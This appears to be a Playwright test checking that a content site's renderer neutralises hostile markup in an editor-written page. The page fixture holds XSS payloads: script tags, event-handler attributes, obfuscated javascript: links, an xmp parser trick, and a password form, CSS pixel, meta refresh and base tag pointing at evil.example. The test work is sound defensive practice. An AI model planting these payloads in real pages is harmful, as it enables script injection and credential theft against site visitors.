/** What an editor, or somebody with an editor's password, could write to run in a visitor's browser. */
import { cp, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, hydrated, startTestSite, test as base, useOneWorker } from './fixtures.ts'

const path = '/about/hostile'

const page = `---
id: 9002
title: '<img src=x onerror="alert(1)"> Fish &amp;amp; chips'
date: 2026-10-01T15:00:00Z
excerpt: '<script>alert(2)</script>Before'
fields:
  template: default
---

Before.

<div>
<script>alert(3)</script>
<img src="/nowhere.png" onerror="alert(4)" alt="a picture">
<a id="link" href="javascript:alert(5)">a link</a>
<a id="entity" href="jav&#x09;ascript:alert(6)">another</a>
<svg onload="alert(7)"><script>alert(8)</script></svg>
<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>alert(9)</script>"></iframe>
<form action="https://evil.example/"><input name="password"><button>Send</button></form>
<xmp><p title="</xmp><img src=x onerror=alert(10)>"></xmp>
<style>body { background: url(https://evil.example/pixel) }</style>
<link rel="stylesheet" href="https://evil.example/style.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<details ontoggle="alert(11)" open><summary>more</summary></details>
</div>

After.
`

useOneWorker()

const test = base.extend<object, { folder: string }>({
  folder: [
    async ({}, use) => {
      const folder = await mkdtemp(join(tmpdir(), 'hostile-content-'))
      await cp(join(import.meta.dirname, '..', 'content-system', 'saltgrass'), folder, { recursive: true })
      await writeFile(join(folder, 'pages', 'about', 'hostile.md'), page)
      await use(folder)
      await rm(folder, { recursive: true, force: true })
    },
    { scope: 'worker' },
  ],
  site: [
    async ({ folder }, use) => {
      const site = await startTestSite({ contentDir: folder, env: { BRAND: 'saltgrass' } })
      await use(site)
      await site.close()
    },
    { scope: 'worker' },
  ],
})

/** The fixtures check, too, for other hosts and for violations of the policy. */
test('hostile content shows, but runs nothing, requests nothing and links nowhere', async ({
  page: tab,
  expectedNoise,
}) => {
  // A placeholder of the missing picture is fine.
  expectedNoise.push(/status of 404/)
  const dialogs: string[] = []
  tab.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await tab.goto(path)
  await hydrated(tab)
  const main = tab.getByRole('main')
  await expect(main.getByText('Before.').first()).toBeVisible()
  await expect(main.getByText('After.')).toBeVisible()
  await expect(main.getByRole('heading', { level: 1 })).toContainText('Fish &amp; chips')
  for (const text of ['a link', 'another']) {
    const link = main.getByText(text, { exact: true })
    if ((await link.count()) > 0) await link.first().click()
  }
  await expect(main.locator('script, iframe, svg script, form, style, link, meta, base, xmp')).toHaveCount(0)
  await expect(tab).toHaveURL(path)
  expect(dialogs).toEqual([])
})
